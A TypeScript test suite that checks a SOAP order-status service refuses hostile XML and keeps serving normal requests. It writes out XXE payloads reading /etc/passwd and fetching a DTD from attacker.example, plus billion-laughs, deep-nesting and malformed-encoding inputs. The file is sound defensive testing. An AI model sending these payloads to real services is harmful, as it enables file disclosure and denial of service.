// Hostile XML: each is answered with a fault, and the service answers a normal request right after.
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OSS_NS } from '../namespaces.js';
import { buildSoapTestApp } from '../../../../../test/support/test-apps.js';
import { envelope, faultOf, ORDER_STATUS_URL, post, statusDetailsRequest } from '../../../../../test/support/soap-requests.js';
import { MINIMAL_STATUS } from '../../../../../test/fixtures/views.js';
import type { FakeAuthenticator } from '../../../../../test/support/fake-ports.js';

let app: FastifyInstance;
let authenticator: FakeAuthenticator;

beforeAll(async () => {
  const t = await buildSoapTestApp();
  ({ app, authenticator } = t);
  t.lookups.statuses = [MINIMAL_STATUS];
});
afterAll(() => app.close());

const MALFORMED = { code: 'soap:Client', message: 'Malformed SOAP request' };

async function expectRefusedThenServed(payload: string | Buffer): Promise<void> {
  authenticator.calls.length = 0;
  const refused = await post(app, ORDER_STATUS_URL, payload);
  expect(refused.statusCode).toBe(500);
  expect(refused.headers['content-type']).toBe('text/xml; charset=utf-8');
  expect(faultOf(refused.body)).toEqual(MALFORMED);
  expect(authenticator.calls).toEqual([]);
  const normal = await post(app, ORDER_STATUS_URL, statusDetailsRequest());
  expect(normal.statusCode).toBe(200);
  expect(normal.body).toContain('<purchaseOrderNumber>PO-2</purchaseOrderNumber>');
}

const request = (id: string) => statusDetailsRequest({ id }).replace('<?xml version="1.0" encoding="UTF-8"?>', '');

describe('XML attacks', () => {
  it('XXE with an external entity', async () => {
    await expectRefusedThenServed(`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${request('&xxe;')}`);
  });

  it('XXE with a parameter entity and a lower-case doctype', async () => {
    await expectRefusedThenServed(`<!doctype foo [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>${request('both')}`);
  });

  it('a bare ENTITY declaration without DOCTYPE', async () => {
    await expectRefusedThenServed(`<!ENTITY a "b">${request('both')}`);
  });

  it('billion laughs', async () => {
    const entities = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    await expectRefusedThenServed(`<?xml version="1.0"?><!DOCTYPE lolz [${entities.join('')}]>${request('&lol9;')}`);
  });

  it('an oversized body (over 8 KiB)', async () => {
    const padding = `<!--${'x'.repeat(9 * 1024)}-->`;
    await expectRefusedThenServed(statusDetailsRequest().replace('<soapenv:Body>', `<soapenv:Body>${padding}`));
  });

  it('a body just under the limit is still served', async () => {
    const padding = `<!--${'x'.repeat(7 * 1024)}-->`;
    const res = await post(app, ORDER_STATUS_URL, statusDetailsRequest().replace('<soapenv:Body>', `<soapenv:Body>${padding}`));
    expect(res.statusCode).toBe(200);
  });

  it('deep nesting', async () => {
    const deep = `${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`;
    await expectRefusedThenServed(statusDetailsRequest().replace('<soapenv:Header/>', `<soapenv:Header>${deep}</soapenv:Header>`));
  });

  it('nesting just past 32 levels is refused, 32 levels are read', async () => {
    // Envelope, Header and nested elements: depth = 2 + n.
    const nest = (n: number) => statusDetailsRequest().replace('<soapenv:Header/>', `<soapenv:Header>${'<a>'.repeat(n)}${'</a>'.repeat(n)}</soapenv:Header>`);
    await expectRefusedThenServed(nest(31));
    expect((await post(app, ORDER_STATUS_URL, nest(30))).statusCode).toBe(200);
  });

  it('invalid UTF-8', async () => {
    const [before, after] = statusDetailsRequest({ id: 'MARK' }).split('MARK') as [string, string];
    await expectRefusedThenServed(Buffer.concat([Buffer.from(before), Buffer.from([0xc3, 0x28]), Buffer.from(after)]));
    await expectRefusedThenServed(Buffer.concat([Buffer.from(before), Buffer.from([0xc0, 0xaf]), Buffer.from(after)]));
  });

  it('characters XML does not allow, raw or as references', async () => {
    await expectRefusedThenServed(request('bo\u0000th'));
    await expectRefusedThenServed(request('bo&#0;th'));
    await expectRefusedThenServed(request('bo&#x1F;th'));
  });

  // A gateway in front may pair such tags differently from us: what it checked is not what we read.
  it.each([
    ['a field closed by its parent\'s name', (xml: string) => xml.replace('</ns:id>', '</ns:GetOrderStatusDetailsRequest>')],
    ['a field closed by another field\'s name', (xml: string) => xml.replace('</ns:id>', '</ns:password>')],
    ['the Body closed as the Envelope', (xml: string) => xml.replace(/<\/(\w+:)?Body>/, '</$1Envelope>')],
  ])('mismatched end tags: %s', async (_case, mismatch) => {
    const xml = statusDetailsRequest();
    const bad = mismatch(xml);
    expect(bad).not.toBe(xml);
    await expectRefusedThenServed(bad);
  });

  it('an unknown operation is named by its local name only', async () => {
    const res = await post(app, ORDER_STATUS_URL, envelope(`<x:Op xmlns:x="${OSS_NS}"/>`));
    expect(faultOf(res.body)).toEqual({ code: 'soap:Client', message: 'Unsupported operation: Op' });
  });
});
